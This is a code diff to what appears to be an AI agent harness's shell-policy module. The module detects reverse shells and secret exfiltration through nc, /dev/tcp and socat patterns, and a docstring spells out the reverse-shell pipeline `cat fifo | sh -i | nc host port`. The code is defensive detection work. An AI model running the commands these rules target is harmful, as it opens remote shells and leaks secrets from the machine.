@@ -12,6 +12,7 @@ from agents.harness.policy.shell import names_secret, reads_secret
 from agents.harness.policy.wrappers import SHELLS
 
 _NET_CATS = frozenset({"nc", "ncat", "netcat"})
+_LONGEST_PIPE = 50
 _NET_DEVICE = re.compile(r"/dev/(?:tcp|udp)/")
 _NET_EXEC = re.compile(r"-\w*[ec]$|--(?:sh-)?exec")
 _SOCAT_EXEC = re.compile(r"(?i)\b(?:exec|system):")
@@ -34,10 +35,21 @@ def reverse_shells(_context: Context, command: Command) -> Iterator[Finding]:
         found = any(_NET_DEVICE.match(text) for text in targets_of) or _told_by_net(command)
     elif name in _NET_CATS:
         found = any(_NET_EXEC.match(argument) for argument in command.arguments)
+        found = found or _listens_to_shell(command)
     else:
         found = name == "socat" and _SOCAT_EXEC.search(line) is not None
     if found:
         yield _REVERSE_SHELL
+
+
+def _listens_to_shell(command: Command) -> bool:
+    """`cat fifo | sh -i | nc host port`: what the shell says goes outside."""
+    upstream = command.upstream
+    return (
+        upstream is not None
+        and upstream.name in SHELLS
+        and all(argument.startswith("-") for argument in upstream.arguments)
+    )
 
 
 def _told_by_net(command: Command) -> bool:
@@ -48,8 +60,9 @@ def _told_by_net(command: Command) -> bool:
 
 def leaks(context: Context, command: Command) -> Iterator[Finding]:
     """A secret in the arguments, in the input or upstream of a connection to outside."""
-    is_fed = _carries_secret(context, command) or _secret_upstream(context, command)
-    if is_fed and network.is_outside(command):
+    if network.is_outside(command) and (
+        _carries_secret(context, command) or _secret_upstream(context, command)
+    ):
         yield _THEFT
 
 
@@ -58,8 +71,8 @@ def _carries_secret(context: Context, command: Command) -> bool:
         return True
     if command.name in ("ssh", "git"):
         return False  # `ssh -i key host` uses a key to log in, it does not send it
-    words = [word for word in command.words[1:] if not _is_key_option(command, word.text)]
-    texts = [word.text.lstrip("@<") for word in words]
+    keys = _keys(command)
+    texts = [text.lstrip("@<") for text in command.arguments if text not in keys]
     inputs = [one.target for one in command.redirections if one.operator in ("<", "<>", "<<<")]
     texts += [word.text for word in inputs]
     return any(word.tainted for word in inputs) or any(
@@ -67,19 +80,19 @@ def _carries_secret(context: Context, command: Command) -> bool:
     )
 
 
-def _is_key_option(command: Command, text: str) -> bool:
-    """The word behind `-i`, `--cert`, `--key`, `--cacert`: it is used, not sent."""
-    arguments = command.arguments
-    return any(
-        before in ("-i", "--cert", "--key", "--cacert", "-E", "-F", "-CAfile") and after == text
-        for before, after in itertools.pairwise(arguments)
-        if not (before == "-F" and command.name == "curl")
-    )
+def _keys(command: Command) -> set[str]:
+    """The words behind `-i`, `--cert`, `--key`, `--cacert`: they are used, not sent."""
+    options = {"-i", "--cert", "--key", "--cacert", "-E", "-CAfile"}
+    if command.name != "curl":
+        options.add("-F")
+    return {after for before, after in itertools.pairwise(command.arguments) if before in options}
 
 
 def _secret_upstream(context: Context, command: Command) -> bool:
     upstream = command.upstream
-    while upstream is not None:
+    for _ in range(_LONGEST_PIPE):
+        if upstream is None:
+            return False
         if reads_secret(context, upstream):
             return True
         upstream = upstream.upstream
@@ -88,6 +101,8 @@ def _secret_upstream(context: Context, command: Command) -> bool:
 
 def in_the_whole(context: Context, commands: Sequence[Command]) -> Iterator[Finding]:
     """A secret that goes into a file, and that file to another machine, in one call."""
+    if not any(network.is_outside(command) for command in commands):
+        return
     loot: set[str] = set()
     for command in commands:
         if loot and network.is_outside(command):
